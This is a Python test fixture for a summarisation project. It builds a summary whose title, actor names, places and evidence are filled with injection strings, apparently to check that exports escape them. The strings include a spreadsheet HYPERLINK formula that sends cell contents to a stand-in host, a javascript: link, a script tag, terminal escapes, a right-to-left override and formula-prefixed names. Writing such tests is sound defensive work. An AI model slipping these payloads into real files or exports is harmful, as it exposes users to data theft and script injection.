"""A summary whose article attacks whoever opens what is made of it."""

from __future__ import annotations

import hashlib

from summariser.schemas import Event, Evidence, Span, Summary
from tests.unit.sample import sample_summary

HOSTILE = (
    '=HYPERLINK("http://x.example/"&A1,"x")\r\n+1 | [a](javascript:b) <script>c</script>'
    "\x1b[31m\u202e *d* `e`\x00"
)
"""A formula, a second line that is one, links, tags, an escape sequence, text shown backwards, NUL."""
NAMES = ("=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\u200b=1", '"=1', "＝1", "'=1", "\r\n=1")
"""Names that are formulas in one way or another."""


def hostile_summary() -> Summary:
    """The sample's, with the words of an attacker in names, words, evidence, title and source."""
    summary = sample_summary()
    article = summary.article.model_copy(
        update={"sha256": hashlib.sha256(b"x").hexdigest(), "source": NAMES[0], "title": HOSTILE}
    )
    assert summary.events is not None
    events = tuple(_hostile(event, name) for event in summary.events.events for name in NAMES)
    return summary.model_copy(
        update={"article": article, "events": summary.events.model_copy(update={"events": events})}
    )


def _hostile(event: Event, name: str) -> Event:
    words = Span(text=HOSTILE, start=0, end=len(HOSTILE))
    proof = (Evidence(sentence="S1", start=0, end=len(HOSTILE), text=HOSTILE),)
    assert event.place is not None
    return event.model_copy(
        update={
            "actors": tuple(
                actor.model_copy(update={"name": name, "words": Span(text=name, start=0, end=len(name))})
                for actor in event.actors
            ),
            "place": event.place.model_copy(update={"words": words, "name": name}),
            "evidence": proof,
        }
    )
